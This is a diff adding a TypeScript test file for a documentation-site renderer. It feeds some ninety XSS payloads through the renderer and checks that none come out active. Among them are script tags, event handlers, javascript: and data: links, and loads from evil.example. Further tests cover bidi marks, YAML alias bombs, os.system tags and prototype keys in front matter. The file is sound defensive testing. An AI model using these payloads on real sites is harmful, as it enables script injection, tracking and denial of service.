@@ -1,0 +1,246 @@
+import { describe, expect, it } from "vitest";
+import { readHead } from "../../../src/site/docs/front-matter.ts";
+import { attributesOf, elementsOf, pageOf, project, textOf } from "./samples.ts";
+
+/** What each of them does where it gets through. */
+const ATTACKS: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<scr<script>ipt>alert(1)</script>",
+  "<script/x>alert(1)</script>",
+  "text <script>alert(1)</script> text",
+  "<style>@import url(//evil.example/x.css)</style>",
+  '<link rel="stylesheet" href="//evil.example/x.css">',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="//evil.example/x.swf"></object><embed src="//evil.example/x">',
+  '<form action="//evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
+  '<img src="x" onerror="alert(1)">',
+  "<img src=x onerror=alert(1)//",
+  '<img src="x"onerror="alert(1)">',
+  '<img/src="x"/onerror="alert(1)">',
+  '<img src="javascript:alert(1)">',
+  '<img src="https://evil.example/track.gif">',
+  '<img srcset="https://evil.example/track.gif 1x" src="https://evil.example/x.png">',
+  "![x](https://evil.example/track.gif)",
+  "![x](javascript:alert(1))",
+  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+  '![x"onerror="alert(1)](https://evil.example/x.png "y\\"onerror=alert(1)")',
+  "[x](javascript:alert(1))",
+  "[x](JaVaScRiPt:alert(1))",
+  "[x](&#106;avascript:alert(1))",
+  "[x](java&#10;script:alert(1))",
+  "[x](&#x1;javascript:alert(1))",
+  "[x](vbscript:msgbox(1))",
+  "[x](data:text/html,<script>alert(1)</script>)",
+  "[x](file:///etc/passwd)",
+  "[x](blob:https://evil.example/x)",
+  '[x](https://evil.example/ "\\" onmouseover=\\"alert(1)")',
+  '[x](<https://evil.example/"onmouseover="alert(1)>)',
+  "<javascript:alert(1)>",
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=" ping="//evil.example/">x</a>',
+  '<a href="https://evil.example/" onclick="alert(1)" style="position:fixed" target="_blank">x</a>',
+  "<a onmouseover=alert(1)>x</a>",
+  '<div style="background:url(//evil.example/x)">x</div>',
+  '<details ontoggle="alert(1)" open><summary>x</summary></details>',
+  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
+  "<svg><style><img src=x onerror=alert(1)></style></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
+  "<xmp><img src=x onerror=alert(1)></xmp>",
+  "<plaintext><img src=x onerror=alert(1)>",
+  "<template><img src=x onerror=alert(1)></template>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  "<!-- --!><img src=x onerror=alert(1)> -->",
+  "<![CDATA[<img src=x onerror=alert(1)>]]>",
+  "<?php echo '<img src=x onerror=alert(1)>' ?>",
+  "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>",
+  "</main></body></html><script>alert(1)</script>",
+  "</p></div></aside></main>",
+  "<table><tr><td></main><script>alert(1)</script>",
+  "<video autoplay><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+  '<body onload="alert(1)"><html onclick="alert(1)">',
+  '<input autofocus onfocus="alert(1)"><select onfocus=alert(1) autofocus></select>',
+  '<marquee onstart="alert(1)">x</marquee>',
+  '<p id="x" class="skip" onclick="alert(1)" data-root="//evil.example/">x</p>',
+  '<a id="main"></a><a name="main"></a><p id="pp-search">x</p>',
+  "`` <img src=x onerror=alert(1)> ``",
+  "```html\n<img src=x onerror=alert(1)></code></pre><script>alert(1)</script>\n```",
+  '```"><script>alert(1)</script>\nx\n```',
+  '```hcl\nx = "</code><script>alert(1)</script>"\n```',
+  "# <img src=x onerror=alert(1)>",
+  '## x"><script>alert(1)</script>',
+  '- `x"><img src=x onerror=alert(1)>` (String)',
+  "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
+  "[x]: javascript:alert(1)\n\n[x]",
+  "-> <script>alert(1)</script>",
+  "> [!NOTE]\n> <script>alert(1)</script>",
+  "---\npage_title: '<script>alert(1)</script>\"'\nsubcategory: '\"><script>alert(1)</script>'\ndescription: '\"><script>alert(1)</script>'\n---\n",
+  "<b <script>alert(1)</script>",
+  "<a href='x' <img src=x onerror=alert(1)>",
+  '<a href="https://evil.example/\'><img src=x onerror=alert(1)>">x</a>',
+  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
+  "&lt;script&gt;alert(1)&lt;/script&gt;",
+  "\\<script>alert(1)\\</script>",
+  "\u0000<script\u0000>alert(1)</script>",
+];
+
+const ELEMENTS = new Set(
+  (
+    "a abbr aside b blockquote br caption code dd del details dfn div dl dt em h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark nav ol p " +
+    "pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var"
+  ).split(" "),
+);
+const ATTRIBUTES = new Set(
+  "align alt aria-current aria-label class colspan height href id loading open role rowspan scope src start tabindex title value width".split(
+    " ",
+  ),
+);
+
+/** Whatever of a page could do something, or ask somebody for something. */
+function findActive(page: string): string[] {
+  const all = elementsOf(page, true);
+  const [main] = all.filter(({ tagName }) => tagName === "main");
+  if (main === undefined) return ["no main"];
+  const inside = new Set(elementsOf(page, true).length === 0 ? [] : descendants(main));
+  return [...inside].flatMap((element) => {
+    const odd = ELEMENTS.has(element.tagName) ? [] : [`<${element.tagName}>`];
+    const attributes = Object.entries(attributesOf(element)).filter(
+      ([name, value]) => !ATTRIBUTES.has(name) || !isHarmless(name, value),
+    );
+    return [...odd, ...attributes.map(([name, value]) => `<${element.tagName} ${name}="${value}">`)];
+  });
+}
+
+function descendants(element: ReturnType<typeof elementsOf>[number]): ReturnType<typeof elementsOf> {
+  return element.childNodes.flatMap((child) => ("tagName" in child ? [child, ...descendants(child)] : []));
+}
+
+function isHarmless(name: string, value: string): boolean {
+  if (name === "src") return /^\.\.?\//.test(value);
+  if (name === "href") return /^(?:#|\.\.?\/|https:\/\/|http:\/\/|mailto:)/.test(value);
+  if (name === "id") return value !== "main" && !value.startsWith("pp-");
+  return true;
+}
+
+/** The elements that a page has outside of its text. */
+function frameOf(page: string): string[] {
+  const all = elementsOf(page, true);
+  const [main] = all.filter(({ tagName }) => tagName === "main");
+  const inside = new Set(main === undefined ? [] : descendants(main));
+  return all
+    .filter((element) => !inside.has(element) && !isDescription(attributesOf(element)))
+    .map(({ tagName }) => tagName)
+    .filter((name) => !/^(?:li|ul|div|p|a|details|summary|aside|button)$/.test(name));
+}
+
+/** Only a page that has one tells it. */
+function isDescription({ name, property }: Readonly<Record<string, string>>): boolean {
+  return name === "description" || property === "og:description";
+}
+
+describe("a hostile document", () => {
+  const frame = frameOf(pageOf("# x\n\ny"));
+
+  it.each(ATTACKS)("%j does nothing", (attack) => {
+    for (const text of [attack, `before\n\n${attack}\n\nafter`, `* ${attack}`, `before ${attack} after`]) {
+      const page = pageOf(text);
+      expect(findActive(page)).toEqual([]);
+      expect(frameOf(page)).toEqual(frame);
+    }
+  });
+
+  it("does nothing with all of them in one", () => {
+    const page = pageOf(ATTACKS.join("\n\n"));
+    expect(findActive(page)).toEqual([]);
+    expect(frameOf(page)).toEqual(frame);
+  });
+
+  it("does nothing in pieces that were put together by chance", () => {
+    const pieces = ATTACKS.flatMap((attack) => attack.match(/<\/?|>|"|'|=|[^<>"'=]+/g) ?? []);
+    let state = 7;
+    const random = (below: number): number => {
+      state = (state * 48271) % 2147483647;
+      return state % below;
+    };
+    for (let round = 0; round < 300; round++) {
+      const text = Array.from({ length: 40 }, () => pieces[random(pieces.length)]).join(
+        random(3) === 0 ? "\n" : "",
+      );
+      const page = pageOf(text);
+      expect(findActive(page), text).toEqual([]);
+      expect(frameOf(page), text).toEqual(frame);
+    }
+  });
+
+  it("is found active by this very test where it is", () => {
+    const page = (main: string) => `<!doctype html><body><main id="main">${main}</main>`;
+    expect(findActive(page('<img src="x" onerror="alert(1)">'))).toHaveLength(2);
+    expect(findActive(page("<script>alert(1)</script>"))).toEqual(["<script>"]);
+    expect(findActive(page('<a href="javascript:alert(1)">x</a>'))).toHaveLength(1);
+    expect(findActive(page('<p style="x">x</p>'))).toHaveLength(1);
+    expect(frameOf(page("</main><script></script>"))).toContain("script");
+  });
+
+  it("shows a script as the text that it is", () => {
+    const [main] = elementsOf(pageOf("<script>alert(1)</script>"), true).filter(
+      ({ tagName }) => tagName === "main",
+    );
+    expect(main && textOf(main)).toContain("<script>alert(1)</script>");
+  });
+});
+
+describe("marks of direction", () => {
+  it("are shown, in a text, in code, in a link and at the top", () => {
+    const mark = "\u202e";
+    const text = `---\npage_title: "a${mark}b"\n---\n\nx${mark}y \`c${mark}d\` [e${mark}f](https://example.com/${mark}) &#x202e; z`;
+    const page = pageOf(text);
+    expect(page).not.toMatch(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/);
+    expect(page).toContain("x[U+202E]y <code>c[U+202E]d</code>");
+    expect(page).toContain("<title>a[U+202E]b");
+  });
+
+  it("stay in the raw text, which is the author's", () => {
+    const site = project({ "docs/index.md": "a\u202eb" });
+    expect(site.get("registry/docs/providers/acme/widget/v1.2.3/index.md")).toBe("a\u202eb");
+  });
+});
+
+describe("front matter that is a bomb", () => {
+  it.each([
+    [
+      "aliases",
+      `a: &a [x,x,x,x,x,x,x,x]\n${[..."bcdefghi"].map((name, at) => `${name}: &${name} [${Array(8).fill(`*${"abcdefgh"[at]}`)}]`).join("\n")}\n`,
+    ],
+    ["lists without end", `a: ${"[".repeat(10_000)}\n`],
+    ["maps without end", `a: ${"{a: ".repeat(4000)}\n`],
+    ["items without end", `${"- ".repeat(8000)}\n`],
+    ["many names", `${Array.from({ length: 1500 }, (_, at) => `k${at}: 1`).join("\n")}\n`],
+    [
+      "something that is run elsewhere",
+      "a: !!js/function 'function () {}'\nb: !!python/object/apply:os.system ['x']\n",
+    ],
+    ["a prototype", "__proto__: {title: x}\nconstructor: y\n"],
+  ])("of %s does nothing", (_name, inside) => {
+    const head = readHead(`---\n${inside}page_title: kept\n---\nbody`);
+    expect(head.body).toBe("body");
+    expect(typeof (head.fields.get("page_title") ?? "")).toBe("string");
+  });
+
+  it("is not read at all when it is far too long", () => {
+    const head = readHead(`---\n${"a: 1\n".repeat(5000)}---\nbody`);
+    expect(head.fault?.found).toBe("front matter of 25000 characters");
+    expect(head.body).toBe("body");
+  });
+});
